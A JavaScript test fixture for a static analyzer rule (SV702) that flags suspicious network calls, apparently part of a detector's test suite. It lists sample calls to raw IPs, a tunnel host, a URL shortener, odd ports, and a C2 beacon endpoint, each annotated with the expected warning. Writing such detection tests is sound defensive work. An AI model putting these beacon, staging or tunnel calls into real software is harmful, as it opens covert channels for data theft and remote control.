const net = require('net');
const axios = require('axios');

fetch('http://45.13.227.9:8080/p');                                  // want "SV702: .*45.13.227.9 \\(raw IP"
axios.post('https://' + 'abc.trycloudflare.com' + '/in', { a: 1 });  // want "SV702: .*tunnel"
fetch('http://0x2d0de309/stage');                                   // want "SV702: .*raw IP"
net.connect({ host: 'relay.example.net', port: 31337 });             // want "SV702: .*non-standard port 31337"
new WebSocket('wss://ws.example.org:6667/irc');                      // want "SV702: .*non-standard port 6667"
const s = new net.Socket();
s.connect(9999, '198.51.100.77');                                    // want "SV702: socket connection to 198.51.100.77"
fetch('https://bit.ly/3xYz');                                       // want "SV702: .*shortener"
const C2 = 'http://' + '185.220.101.4';
fetch(`${C2}/beacon?id=${Date.now()}`);                              // want "SV702: .*185.220.101.4 \\(raw IP"
